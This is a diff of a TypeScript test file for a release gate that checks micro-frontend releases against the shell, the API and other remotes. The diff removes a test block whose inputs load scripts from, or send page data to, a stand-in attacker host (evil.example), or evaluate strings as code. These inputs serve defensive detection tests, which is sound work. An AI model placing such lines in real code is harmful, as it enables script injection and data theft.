@@ -1,6 +1,7 @@
 /** Tests of differences between a release and the portal that runs: contract, shared modules, and the API. */
 import type { OperationShape, ReleasedRoute } from '../contracts/platform';
-import { checkAgainstShell, checkClaims, checkFiles, checkOperations, remarksOnFiles } from './release-gate';
+import { whyText } from './release-finding';
+import { checkAgainstShell, checkClaims, checkOperations } from './release-gate';
 
 const shell = {
   contract: '1',
@@ -33,7 +34,7 @@ describe('against the shell', () => {
     ],
   ])('refuses %s', (_, release, reason) => {
     const [found, ...more] = checkAgainstShell({ ...built, ...release }, shell);
-    expect(found).toContain(reason);
+    expect(found?.why).toContain(reason);
     expect(more).toEqual([]);
   });
 });
@@ -58,7 +59,7 @@ describe('against the API', () => {
     body({ data: { type: 'array', items: body({ id: text, city: text }) } }),
   );
   const breaks = (now: OperationShape) =>
-    checkOperations({ operations: { 'PUT /cards': then } }, { 'PUT /cards': now });
+    checkOperations({ operations: { 'PUT /cards': then } }, { 'PUT /cards': now }).map(whyText);
 
   it.each<[string, object, object, string]>([
     [
@@ -106,7 +107,7 @@ describe('against the API', () => {
 
   it('names an operation that is gone', () => {
     expect(checkOperations({ operations: { 'PUT /cards': then } }, {})).toEqual([
-      'it calls PUT /cards, which the API does not have',
+      { code: 'operation-gone', why: 'it calls PUT /cards, which the API does not have' },
     ]);
   });
 });
@@ -127,7 +128,7 @@ describe('against the other remotes', () => {
     checkClaims(
       { name: 'mf-broker', routes: [one] },
       { prefixes: ['/broker'], others, before: null, mayWeakenGuards: false },
-    );
+    ).map(whyText);
 
   it.each<[string, ReleasedRoute, string]>([
     ['a page below the shell’s', route('/login/desk'), 'it claims /login/desk, which is for the shell'],
@@ -153,65 +154,5 @@ describe('against the other remotes', () => {
 
   it('accepts a replacement page for people whom no other replacement admits', () => {
     expect(check(route('/broker', { guard: 'admin', insteadOf: '/leads' }))).toEqual([]);
-  });
-});
-
-describe('against the policy of the pages', () => {
-  const check = (text: string) => checkFiles([{ path: 'client/a.js', text }]);
-
-  it.each([
-    'import("https://evil.example/x.js")',
-    'const from = "https://evil.example/x.js?v=1"; import(from)',
-    'script.src="//evil.example/x"',
-    'importScripts("x.js")',
-    'const from = "https://js.stripe.com.evil.example/x.js"',
-  ])('refuses code of another origin: %s', (text) => {
-    expect(check(text)).toEqual(['client/a.js loads code from another origin']);
-  });
-
-  it.each([
-    'eval("1")',
-    '(0,eval)("1")',
-    'window.eval("1")',
-    'self.Function("return 1")()',
-    'new Function("return 1")()',
-    'setTimeout("alert(1)", 0)',
-    '[].map.constructor("return 1")()',
-  ])('refuses text as code: %s', (text) => {
-    expect(check(text)).toEqual(['client/a.js evaluates text as code']);
-  });
-
-  it.each([
-    'location.href="https://evil.example/?d="+data',
-    'window.location="//evil.example"',
-    'location.assign(`https://evil.example/${data}`)',
-    'top.location.replace("https://evil.example")',
-    'self.open("https://evil.example","_blank")',
-    'document.location = "http://evil.example"',
-  ])('refuses to send the tab elsewhere: %s', (text) => {
-    expect(check(text)).toEqual(['client/a.js sends the tab to another origin']);
-  });
-
-  it.each<[string, number]>([
-    ['window.location.assign(url)', 1],
-    ['location.href=x', 1],
-    ['window.open(url)', 1],
-    ['window.open("","_blank")', 0],
-    ['location.assign("/leads")', 0],
-    ['if(location.href==="https://farmpost.example")go()', 0],
-    ['const {location}=useRouter(); text.replace(a,b); e.location.pathname', 0],
-    ['location.replace(/a/,"b")', 0],
-  ])('remarks on a computed address: %s (%d)', (text, remarks) => {
-    const files = [{ path: 'client/a.js', text }];
-    expect(check(text)).toEqual([]);
-    expect(remarksOnFiles(files)).toHaveLength(remarks);
-  });
-
-  it.each([
-    'script.src="https://js.stripe.com/endive/stripe.js"',
-    'setTimeout(()=>done(),0); model.eval(x); this.constructor(options)',
-    'const help="https://farmpost.example/help"',
-  ])('takes %s', (text) => {
-    expect(check(text)).toEqual([]);
   });
 });
